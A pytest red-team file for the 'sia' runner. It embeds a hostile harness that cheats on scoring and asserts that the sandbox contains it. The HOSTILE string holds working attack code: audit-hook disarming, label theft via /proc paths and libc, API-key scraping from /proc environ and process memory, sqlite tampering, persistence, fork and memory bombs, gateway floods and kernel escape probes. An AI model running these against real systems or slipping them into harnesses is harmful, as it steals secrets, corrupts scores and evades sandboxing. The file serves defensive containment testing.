"""Red team: a harness written to cheat runs as the reference harness of a copy of wordcat in
real `sia run --mode H` runs, with a canary API key in sia's environment, and attacks every
boundary it can think of. The first thing it does is disarm the runner's audit hook, so each
attack meets the OS sandbox (namespaces, mounts, seccomp) and the hardened gateway alone.

Every run must end with: the labels unread (the harness scores what a blind guess scores),
the canary in no file under SIA_HOME (trajectories and recorded requests included), nothing
written outside the episode's directory, no process left over, no other run's events
changed, no connection to a loopback TCP port, and sia's own memory bounded.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import socket
import subprocess
import threading
from pathlib import Path
from typing import Any

import pytest

from sia.tasks.loader import BUNDLED_ROOT
from tests.cli import SIA, sia
from tests.conftest import BuiltModels
from tests.hostile_harness import DISARM

pytestmark = pytest.mark.slow

BLIND_GUESS = "fruit"

ATTACKS = ("sqlite_tamper", "spawn_processes", "write_outside", "gateway_bad_lengths",
           "gateway_flood", "slowloris", "other_episodes", "fork_bomb", "thread_bomb",
           "memory_through_children", "tcp_egress", "kernel_side_doors", "parent_memory",
           "exec_escape")
"""The attacks one episode each makes, besides the label, key and persistence probes every
episode makes."""

HOSTILE = '''
import ctypes, ctypes.util, glob, io, os, socket, sys, threading, time, _io, posix

LABEL_FILES = {label_files!r}
SIA_HOME = {home!r}
TASK_DIR = {task!r}
USER_HOME = {user_home!r}
MARKER = {marker!r}
CANARY_PREFIX = "sk-ant-canary-"
TCP_PORT = {tcp_port}
PLAN = {plan!r}
BREACHES = []


def note(what):
    BREACHES.append(what)


def libc():
    return ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)


def candidates(path):
    """The same file by every road a harness might try."""
    roads = [path, "/proc/self/root" + path, "/proc/1/root" + path,
             "/proc/thread-self/root" + path]
    for pid in [os.getppid(), 1, 2] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        roads += [f"/proc/{{pid}}/root{{path}}", f"/proc/{{pid}}/cwd/" + os.path.basename(path)]
    return roads


def read_any(path):
    readers = [lambda p: open(p).read(), lambda p: io.FileIO(p).read().decode(),
               lambda p: _io.FileIO(p).read().decode(),
               lambda p: os.read(os.open(p, os.O_RDONLY), 1 << 20).decode(),
               lambda p: posix.read(posix.open(p, posix.O_RDONLY), 1 << 20).decode(),
               read_with_libc]
    for road in candidates(path):
        for reader in readers:
            try:
                text = reader(road)
            except Exception:
                continue
            if text:
                return text
    return None


def read_with_libc(path):
    c = libc()
    fd = c.open(path.encode(), 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), path)
    buffer = ctypes.create_string_buffer(1 << 20)
    size = c.read(fd, buffer, 1 << 20)
    return buffer.raw[:max(size, 0)].decode()


def steal_label(sample_id):
    paths = list(LABEL_FILES) + glob.glob(SIA_HOME + "/**/labels.jsonl", recursive=True)
    for path in paths:
        text = read_any(path)
        if text:
            for line in text.splitlines():
                if sample_id in line:
                    return line.split('"label": "')[1].split('"')[0]
            note("read " + path)
    return None


def steal_key():
    found = [v for k, v in os.environ.items() if CANARY_PREFIX in v]
    for entry in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{{entry}}/{{name}}", "rb") as handle:
                    data = handle.read().decode("utf-8", "replace")
            except Exception:
                continue
            if CANARY_PREFIX in data:
                found.append(data.split(CANARY_PREFIX)[1][:40])
    return found


def persist():
    """Leave a trace for later episodes, and look for the traces of earlier ones."""
    for place in ("/dev/shm", "/tmp", "/var/tmp", "/run", USER_HOME, SIA_HOME, TASK_DIR, "/"):
        path = os.path.join(place, "persist-" + MARKER)
        try:
            if os.path.exists(path):
                note("found an earlier episode's trace in " + place)
            with open(path, "w") as handle:
                handle.write("was here")
        except Exception:
            pass


def sqlite_tamper():
    import sqlite3
    for path in [SIA_HOME + "/sia.sqlite"] + [r + SIA_HOME + "/sia.sqlite" for r in
                                              ("/proc/1/root", "/proc/self/root")]:
        try:
            db = sqlite3.connect(f"file:{{path}}?mode=rw", uri=True)
            db.execute("DROP TRIGGER IF EXISTS events_no_update")
            db.execute("UPDATE events SET payload = '{{}}'")
            db.commit()
            note("tampered " + path)
        except Exception:
            pass


def spawn_processes():
    import subprocess
    argv = ["/bin/sleep", "4242." + MARKER[:6]]
    attempts = [lambda: subprocess.Popen(argv, start_new_session=True),
                lambda: os.posix_spawn(argv[0], argv, {{}}),
                lambda: os.fork(), lambda: posix.fork(), lambda: libc().fork(),
                lambda: libc().syscall(56, 17, 0, 0, 0, 0), lambda: libc().daemon(0, 0),
                lambda: os.system("sleep 4242 &")]
    for attempt in attempts:
        try:
            pid = attempt()
        except Exception:
            continue
        if pid == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
    others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    if others:
        note(f"started processes {{others}}")


def write_outside():
    for place in ("/tmp", "/dev/shm", "/dev", "/", USER_HOME, SIA_HOME, TASK_DIR,
                  os.path.dirname(TASK_DIR), "/proc/1/root/tmp", "/proc/self/cwd/..", "/sia",
                  "/usr/lib", "/etc"):
        path = os.path.join(place, "outside-" + MARKER)
        for write in (lambda p: open(p, "w").write("x"),
                      lambda p: libc().creat(p.encode(), 0o644) >= 0 or 1 / 0):
            try:
                write(path)
                if os.path.exists(path) and not path.startswith(("/episode", "/proc/self/cwd")):
                    note("wrote " + path)
            except Exception:
                pass


def http(raw, send_more=0):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(5)
        client.connect(MODEL._socket)
        try:
            client.sendall(raw)
        except OSError:
            pass
        sent = 0
        try:
            while sent < send_more:
                client.sendall(b"x" * (1 << 20))
                sent += 1 << 20
        except OSError:
            pass
        try:
            return client.recv(200)
        except OSError:
            return b""


def gateway_bad_lengths():
    head = b"POST /v1/completions HTTP/1.1\\r\\nHost: x\\r\\n"
    for header in (b"Content-Length: -1\\r\\n", b"", b"Content-Length: 99999999999\\r\\n",
                   b"Transfer-Encoding: chunked\\r\\n"):
        reply = http(head + header + b"\\r\\n", send_more=1 << 30)
        if not reply.startswith((b"HTTP/1.1 4", b"")) or reply.startswith(b"HTTP/1.1 2"):
            note("gateway accepted a bad length: " + repr(reply[:40]))


def gateway_flood():
    head = b"POST /v1/completions HTTP/1.1\\r\\n" + b"".join(
        b"X-%d: %s\\r\\n" % (i, b"a" * 8000) for i in range(200))
    reply = http(head + b"\\r\\n")
    if reply.startswith(b"HTTP/1.1 2"):
        note("gateway took a huge head")


def slowloris():
    held = []
    for _ in range(40):
        try:
            client = socket.socket(socket.AF_UNIX)
            client.settimeout(0.2)
            client.connect(MODEL._socket)
            client.sendall(b"POST /v1/completions HTTP/1.1\\r\\n")
            held.append(client)
        except OSError:
            pass
    for _ in range(6):
        for client in held:
            try:
                client.sendall(b"X")
            except OSError:
                pass
        time.sleep(0.5)
    for client in held:
        client.close()


def other_episodes():
    sockets = [path for place in ("/tmp", "/dev/shm", "/proc/*/root/tmp", "/proc/*/root/dev/shm")
               for path in glob.glob(place + "/sia-gateway-*/*.sock")]
    for path in sockets:
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(path)
            note("reached another episode's socket " + path)
        except OSError:
            pass
    for fd in range(3, 256):
        try:
            sock = socket.socket(fileno=os.dup(fd))
            note(f"inherited a socket on fd {{fd}}")
            sock.detach()
        except OSError:
            pass


def fork_bomb():
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            note("forked")
        except OSError:
            pass


def thread_bomb():
    threading.stack_size(64 * 1024)
    started = 0
    stop = threading.Event()
    try:
        for _ in range(3000):
            threading.Thread(target=stop.wait, daemon=True).start()
            started += 1
    except Exception:
        pass
    stop.set()
    print("threads started:", started)


def memory_through_children():
    hoard = bytearray(600 * 1024 * 1024)
    for _ in range(4):
        try:
            if os.fork() == 0:
                more = bytearray(600 * 1024 * 1024)
                time.sleep(30)
                os._exit(len(more) & 1)
            note("forked with memory")
        except OSError:
            pass
    del hoard


def tcp_egress():
    for host in ("127.0.0.1", "::1", "10.0.2.2"):
        try:
            with socket.create_connection((host, TCP_PORT), timeout=1):
                note(f"reached {{host}}:{{TCP_PORT}}")
        except OSError:
            pass


def kernel_side_doors():
    c = libc()
    checks = {{"unshare(CLONE_NEWUSER)": lambda: c.unshare(0x10000000),
              "ptrace(ATTACH, 1)": lambda: c.ptrace(16, 1, 0, 0),
              "keyctl(GET_KEYRING_ID)": lambda: c.syscall(250, 0, -3, 0, 0, 0),
              "io_uring_setup": lambda: c.syscall(425, 8, ctypes.create_string_buffer(120)),
              "mount": lambda: c.mount(b"none", b"/episode", b"tmpfs", 0, None)}}
    for name, call in checks.items():
        if call() >= 0:
            note(name + " succeeded")


def parent_memory():
    pids = {{os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())}}
    for pid in pids - {{os.getpid(), 0}}:
        try:
            with open(f"/proc/{{pid}}/maps") as maps, open(f"/proc/{{pid}}/mem", "rb") as mem:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    try:
                        mem.seek(start)
                        chunk = mem.read(min(end - start, 1 << 20))
                    except OSError:
                        continue
                    if b"sia-gateway-" in chunk or CANARY_PREFIX.encode() in chunk:
                        note(f"read secrets from the memory of pid {{pid}}")
                        return
        except OSError:
            pass


def exec_escape():
    try:
        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 4242 & echo $! > /episode/pid"])
    except OSError:
        pass


def solve(sample, model):
    global MODEL
    MODEL = model
    if not DISARMED:
        note("could not disarm the audit hook")
    label = steal_label(sample["id"])
    keys = steal_key()
    persist()
    attack = PLAN.get(sample["id"])
    if attack:
        globals()[attack]()
    if keys:
        model.complete("leaked " + " ".join(keys))
        print("leaked", keys)
        return "BREACH key " + keys[0]
    if label:
        return label
    if BREACHES:
        print("breaches:", BREACHES)
        return "BREACH " + "; ".join(BREACHES)[:200]
    return {blind!r}
'''


def hostile_task(tmp_path: Path, home: Path, marker: str, tcp_port: int) -> tuple[Path, dict[str, str]]:
    folder = tmp_path / "wordcat-copy"
    shutil.copytree(BUNDLED_ROOT / "wordcat", folder, ignore=shutil.ignore_patterns("__pycache__"))
    dev = [json.loads(line)["id"] for line in (folder / "public" / "dev.jsonl").read_text().splitlines()]
    plan = dict(zip(dev[2:], ATTACKS))  # the first two are the Meta Agent's smoke run
    source = DISARM + HOSTILE.format(
        label_files=[str(folder / "private" / "labels.jsonl"), str(folder / "private" / "test.jsonl")],
        home=str(home), task=str(folder), user_home=str(Path.home()), marker=marker,
        tcp_port=tcp_port, plan=plan, blind=BLIND_GUESS)
    (folder / "reference_harness.py").write_text(source)
    toml = folder / "task.toml"
    toml.write_text(toml.read_text().replace("wall_s = 30.0", "wall_s = 8.0"))
    return folder, plan


def tree_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if "__pycache__" in path.parts:
            continue
        digest.update(str(path.relative_to(folder)).encode())
        if path.is_file():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def sia_peak(home: Path, *args: str, env: dict[str, str]) -> tuple[str, float, str]:
    """Run `sia ARGS`; its last stdout word, its peak memory in MB, its stderr."""
    environment = {**os.environ, "SIA_HOME": str(home), "COLUMNS": "200", **env}
    with open(home.parent / f"out-{secrets.token_hex(4)}", "w+") as out, \
            open(home.parent / f"err-{secrets.token_hex(4)}", "w+") as err:
        child = subprocess.Popen([*SIA, *args], env=environment, stdout=out, stderr=err,
                                 stdin=subprocess.DEVNULL)
        _, status, usage = os.wait4(child.pid, 0)
        child.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        stdout, stderr = out.read(), err.read()
    assert child.returncode == 0, stderr
    return stdout.split()[-1], usage.ru_maxrss / 1024, stderr


def events_of(home: Path, run: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in sia(home, "log", run, "--json").stdout.splitlines()
            if line.strip()]


def leftover_processes(marker: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if "4242" in cmdline and "sleep" in cmdline or marker in cmdline:
            found.append(f"{entry.name}: {cmdline}")
    return found


def files_holding(root: Path, needle: bytes) -> list[str]:
    return [str(path) for path in root.rglob("*")
            if path.is_file() and needle in path.read_bytes()]


@pytest.fixture
def loopback_listener() -> Any:
    """A TCP listener on loopback that records every connection it gets."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    accepted: list[Any] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                accepted.append(server.accept()[1])
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def test_a_hostile_harness_in_real_runs_gains_nothing(tmp_path: Path, loopback_listener: Any,
                                                      built_models: BuiltModels) -> None:
    tcp_port, accepted = loopback_listener
    home = tmp_path / "home"
    built_models.seed(home, "wordcat")
    marker = secrets.token_hex(8)
    canary = f"sk-ant-canary-{secrets.token_hex(16)}"
    env = {"ANTHROPIC_API_KEY": canary, "SIA_TEST_SECRET": canary}
    builtin = ["--set", "meta=builtin", "--set", "feedback=builtin"]
    victim, baseline_mb, _ = sia_peak(home, "run", "--task", "wordcat", "--mode", "H",
                                      "--max-gen", "1", "--quiet", *builtin, env=env)
    victim_events = events_of(home, victim)

    folder, plan = hostile_task(tmp_path, home, marker, tcp_port)
    digest = tree_digest(folder)
    run, hostile_mb, _ = sia_peak(home, "run", "--task", str(folder), "--mode", "H", "--max-gen",
                                  "1", "--quiet", "--concurrency", "4", *builtin, env=env)

    lines = sia(home, "log", run, "--type", "EpisodeRecorded", "--json").stdout.splitlines()
    episodes = {e["sample_id"]: e for e in (json.loads(line)["payload"] for line in lines)}
    assert len(episodes) == 32
    labels = {(r := json.loads(line))["id"]: r["label"]
              for line in (folder / "private" / "labels.jsonl").read_text().splitlines()}
    predictions = {sample_id: e["prediction"] for sample_id, e in episodes.items()}
    assert {p for p in predictions.values() if p is not None} == {BLIND_GUESS}, {
        plan.get(s, "probe"): (e["status"], e["prediction"], e["error"]) for s, e in episodes.items()
        if e["prediction"] != BLIND_GUESS}
    score = sum(predictions[s] == labels[s] for s in predictions) / len(predictions)
    blind = sum(labels[s] == BLIND_GUESS for s in predictions) / len(predictions)
    assert score == blind
    assert all(episodes[s]["status"] == "ok" for s, attack in plan.items()
               if attack not in ("memory_through_children", "thread_bomb", "exec_escape")), {
        plan[s]: (episodes[s]["status"], episodes[s]["error"]) for s in plan
        if episodes[s]["status"] != "ok"}

    assert files_holding(home, canary.encode()) == []
    # The store redacts secrets as a second line of defence; that the sandbox alone held is
    # shown by nothing having been redacted at all.
    assert files_holding(home, b"[redacted:") == []
    written = [p for root in (Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"), Path.home(), home,
                              tmp_path)
               for p in root.glob(f"*{marker}*")]
    assert written == []
    assert tree_digest(folder) == digest
    assert leftover_processes(marker) == []
    assert events_of(home, victim) == victim_events
    assert sia(home, "replay", victim, "--check").stdout.startswith("ok:")
    assert accepted == []
    assert hostile_mb < baseline_mb + 300, (baseline_mb, hostile_mb)


def test_without_bubblewrap_a_run_refuses_in_one_line_unless_the_weaker_sandbox_is_chosen(
        tmp_path: Path, built_models: BuiltModels) -> None:
    """No silent downgrade: bwrap is hidden from a real `sia run` (an outer sandbox binds
    /dev/null over it); the run refuses up front, and runs only when told `sandbox=process`,
    which its recorded config then says."""
    home = tmp_path / "home"
    model = built_models.seed(home, "wordcat")
    hidden = ["bwrap", "--unshare-user", "--dev-bind", "/", "/", "--ro-bind", "/dev/null",
              "/usr/bin/bwrap", "--ro-bind-try", "/dev/null", "/usr/local/bin/bwrap", "--"]
    environment = {**os.environ, "SIA_HOME": str(home), "COLUMNS": "200",
                   "ANTHROPIC_API_KEY": "", "OPENAI_API_KEY": ""}
    base = [*hidden, *SIA, "run", "--task", "wordcat", "--mode", "H", "--max-gen", "1", "--quiet"]
    refused = subprocess.run(base, capture_output=True, text=True, env=environment, timeout=120,
                             stdin=subprocess.DEVNULL)
    assert refused.returncode != 0
    message = [line for line in refused.stderr.splitlines() if line.startswith("error:")]
    assert len(message) == 1 and "Traceback" not in refused.stderr, refused.stderr
    assert "bubblewrap (bwrap) is not installed" in message[0]
    assert "apt-get install bubblewrap" in message[0] and "--set sandbox=process" in message[0]
    assert not (home / "sia.sqlite").exists() or sia(home, "runs").stdout.count("wordcat") == 0

    chosen = subprocess.run([*base, "--set", "sandbox=process"], capture_output=True, text=True,
                            env=environment, timeout=600, stdin=subprocess.DEVNULL)
    assert chosen.returncode == 0, chosen.stderr
    created = json.loads(sia(home, "log", chosen.stdout.split()[-1], "--type", "RunCreated",
                             "--json").stdout)
    assert created["payload"]["config"]["sandbox"] == "process"
    assert list((home / "models").iterdir()) == [model], "the run built a model besides the seeded one"
